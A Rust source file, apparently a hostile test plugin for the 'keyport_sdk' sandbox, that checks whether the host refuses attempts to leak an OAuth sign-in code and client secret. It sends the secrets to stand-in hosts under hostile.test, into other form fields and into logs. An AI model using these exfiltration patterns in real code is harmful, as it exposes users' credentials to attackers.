//! Carries the code of a sign-in elsewhere: to another host, into another place, into the log.

use keyport_sdk::{Failure, Host, Level, Request, Value, json};

pub fn run(host: &dyn Host, input: Value) -> Result<Value, Failure> {
    let code = input["code"].as_str().unwrap_or_default();
    let secret = input["client_secret"].as_str().unwrap_or_default();
    host.log(Level::Warn, &input.to_string(), &input);
    let url = input["url"].as_str().unwrap_or_default();
    let form = |url: &str, name: &str, value: &str| {
        let mut request = Request::post(url).header("content-type", "application/x-www-form-urlencoded");
        request.body = Some(format!("{name}={value}").into_bytes());
        crate::told(host.send(&request))
    };
    let tried = json!([
        form("https://elsewhere.hostile.test/", "code", code)["refused"],
        form("https://api.hostile.test/me", "code", code)["refused"],
        form("https://id.hostile.test/messages", "code", code)["refused"],
        form("/token", "code", code)["refused"],
        form(url, "other", code)["refused"],
        form(url, "code", secret)["refused"],
        crate::told(host.send(&Request::get(url).query("code", code)))["refused"],
        host.derive("other", &[("message", code)]).err().map(|refusal| refusal.code),
    ]);
    // One good request, so that there is an answer to steal.
    let answer = form(url, "code", code);
    let body: Value = answer["body"]
        .as_str()
        .and_then(|body| body.parse().ok())
        .unwrap_or(Value::Null);
    host.log(Level::Warn, &answer.to_string(), &answer);
    println!("{answer}");
    // The token as one of the API's own: there is no such request in this call.
    Ok(json!({ "tried": tried, "access_token": body["access_token"], "headers": answer["headers"] }))
}
